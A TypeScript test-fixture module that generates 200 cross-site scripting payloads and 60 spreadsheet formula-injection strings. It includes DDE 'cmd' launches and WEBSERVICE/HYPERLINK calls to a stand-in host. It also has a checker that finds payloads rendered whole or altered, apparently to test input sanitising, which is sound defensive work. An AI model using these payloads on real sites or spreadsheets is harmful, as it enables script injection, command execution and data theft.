/** Code that hostile texts run; each is told from the others by its number. */
const actions: readonly ((name: string) => string)[] = [
  (name) => name,
  (name) => `top.${name}`,
  (name) => `window['eval']('${name}')`,
  (name) => `setTimeout(()=>${name})`,
  (name) => `Promise.resolve().then(()=>${name})`,
];

/** Ways by which a text becomes a program: as an element, out of an attribute, by an address, half decoded. */
const ways: readonly ((action: string) => string)[] = [
  (action) => `<script>${action}</script>`,
  (action) => `<ScRiPt >${action}</sCrIpT >`,
  (action) => `<scr<script>ipt>${action}</scr</script>ipt>`,
  (action) => `"><script>${action}</script>`,
  (action) => `'><img src=x onerror=${action}>`,
  (action) => `<img src=x onerror="${action}">`,
  (action) => `<img/src=x:x/onerror=${action}//`,
  (action) => `<svg onload=${action}>`,
  (action) => `<svg><script>${action}</script></svg>`,
  (action) => `<svg><animate onbegin=${action} attributeName=x dur=1s>`,
  (action) => `<math><mtext></form><mglyph><style></math><img src=x onerror=${action}>`,
  (action) => `</textarea><script>${action}</script>`,
  (action) => `</title><svg/onload=${action}>`,
  (action) => `</style><img src=x onerror=${action}>`,
  (action) => `--><script>${action}</script><!--`,
  (action) => `]]><script>${action}</script>`,
  (action) => `<!--><img src=x onerror=${action}>-->`,
  (action) => `" onfocus="${action}" autofocus="`,
  (action) => `' onmouseover='${action}' style='position:fixed;inset:0`,
  (action) => `<details open ontoggle=${action}>`,
  (action) => `<input autofocus onfocus=${action}>`,
  (action) => `<body onload=${action}>`,
  (action) => `<video><source onerror=${action}></video>`,
  (action) => `<marquee onstart=${action}>`,
  (action) => `<iframe srcdoc="<script>parent.${action}</script>"></iframe>`,
  (action) => `<iframe src="javascript:parent.${action}"></iframe>`,
  (action) => `<object data="data:text/html,<script>${action}</script>"></object>`,
  (action) => `<embed src="javascript:${action}">`,
  (action) => `<a href="javascript:${action}" autofocus>hier</a>`,
  (action) => `<form action="javascript:${action}"><button autofocus>hier</button></form>`,
  (action) => `<meta http-equiv="refresh" content="0;url=javascript:${action}">`,
  (action) => `<base href="https://boese.test/"><i title="${action}">`,
  (action) => `<link rel="stylesheet" href="https://boese.test/${action}.css">`,
  (action) => `<style>*{background:url(https://boese.test/${action})}</style>`,
  (action) => `javascript:${action}`,
  (action) => `data:text/html,<script>${action}</script>`,
  (action) => `{{constructor.constructor('${action}')()}}`,
  (action) => `\${${action}}`,
  (action) => `&lt;script&gt;${action}&lt;/script&gt;`,
  (action) => `\\u003cscript\\u003e${action}\\u003c/script\\u003e`,
];

/** Texts that spreadsheets take for the beginning of a formula. */
const beginnings = ['=', '+', '-', '@', '\t=', ' ='];

const formulas: readonly ((name: string) => string)[] = [
  (name) => `HYPERLINK("https://boese.test/${name}";"Rechnung")`,
  (name) => `cmd|'/C ${name}'!A0`,
  (name) => `DDE("cmd";"/C ${name}";"x")`,
  (name) => `IMPORTXML("https://boese.test/${name}";"//a")`,
  (name) => `WEBSERVICE("https://boese.test/"&"${name}")`,
  (name) => `SUM(1+1)*cmd|' ${name}'!A1`,
  (name) => `1+1&"${name}"`,
  (name) => `INDIRECT("${name}")`,
  (name) => `'file://boese.test/${name}'#$Tabelle1.A1`,
  (name) => `EXEC("${name}")`,
];

const named = (number: number) => `boese(${number})`;

export const scriptTexts: readonly string[] = ways.flatMap((way, place) =>
  actions.map((action, index) => way(action(named(place * actions.length + index)))),
);

export const formulaTexts: readonly string[] = beginnings.flatMap((beginning, place) =>
  formulas.map(
    (formula, index) => `${beginning}${formula(named(scriptTexts.length + place * formulas.length + index))}`,
  ),
);

/** 200 that would run in a page and 60 that would be reckoned by a spreadsheet. */
export const hostileTexts: readonly string[] = [...scriptTexts, ...formulaTexts];

/**
 * Texts that show one of them and not as it was typed, apart from blanks: a part of it has become something else, or is
 * gone. Where a text is shortened, what is left must be a piece of it. `seen` is told of each that stands there whole.
 */
export function garbled(shown: readonly string[], seen: (text: string) => void = () => {}): string[] {
  return shown.filter((text) => {
    const said = withoutBlanks(text);
    const numbers = [...said.matchAll(/boese\((\d+)\)/g)].map(([, number]) => Number(number));
    const wanted = numbers.map((number) => hostileTexts[number] ?? '');
    const isWhole = wanted.every((each) => said.includes(withoutBlanks(each)));
    if (isWhole) for (const each of wanted) seen(each);
    return !isWhole && !(said.includes('…') && said.split('…').every((piece) => all.includes(piece)));
  });
}

export const withoutBlanks = (text: string): string => text.replaceAll(/\s/g, '');

const all = withoutBlanks(hostileTexts.join(''));
